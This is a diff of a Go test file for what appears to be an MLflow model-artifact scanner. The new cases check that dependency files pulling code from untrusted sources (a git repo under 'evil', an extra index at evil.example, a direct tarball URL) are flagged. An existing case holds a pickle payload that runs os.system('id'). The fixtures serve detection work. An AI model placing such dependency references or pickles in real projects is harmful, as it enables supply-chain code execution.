@@ -67,6 +67,15 @@ func TestMLmodel(t *testing.T) {
 		{"artifact as a URI", "flavors:\n  sklearn:\n    pickled_model: s3://bucket/model.pkl\n", nil, []string{"mlflow/path-escape"}},
 		{"duplicate loader_module", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: evil\n", nil, []string{"mlflow/ambiguous", "mlflow/loader-module"}},
 		{"not YAML", "flavors: [\n", nil, []string{"mlflow/unreadable"}},
+		// Environment files: what `mlflow models serve` / env_manager install.
+		{"real requirements and python_env", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("mlflow==2.9.0\ncloudpickle==2.2.1\nscikit-learn==1.3.0 ; python_version >= \"3.8\"\n# comment\n"),
+			"python_env.yaml": []byte("python: 3.10.12\nbuild_dependencies:\n- pip==23.1\n- setuptools==68.0.0\n- wheel==0.41.0\ndependencies:\n- -r requirements.txt\n"),
+			"conda.yaml":      []byte("channels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip<=23.1\n- pip:\n  - mlflow==2.9.0\n  - scikit-learn==1.3.0\nname: mlflow-env\n")}, nil},
+		{"requirement from git", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("mlflow==2.9.0\ngit+https://github.com/evil/helpers.git@main#egg=helpers\n")}, []string{"mlflow/dependency-source"}},
+		{"extra index in a file named by python_env", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "python_env.yaml": []byte("python: 3.10\ndependencies:\n- -r reqs.txt\n"), "reqs.txt": []byte("--extra-index-url https://evil.example/simple\nmlflow\n")}, []string{"mlflow/dependency-source"}},
+		{"conda pip direct reference", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "conda.yaml": []byte("dependencies:\n- python=3.10\n- pip:\n  - helpers @ https://evil.example/h.tar.gz\n")}, []string{"mlflow/dependency-source"}},
+		{"local wheel", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("./wheels/helpers-1.0-py3-none-any.whl\n")}, []string{"mlflow/dependency-source"}},
+		{"editable install", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("-e .\n")}, []string{"mlflow/dependency-source"}},
 		{"pickle payload as model.pkl", sklearnMLmodel, map[string][]byte{"model.pkl": []byte("cos\nsystem\n(S'id'\ntR.")}, []string{"pickle/dangerous-import"}},
 	}
 	for _, c := range cases {
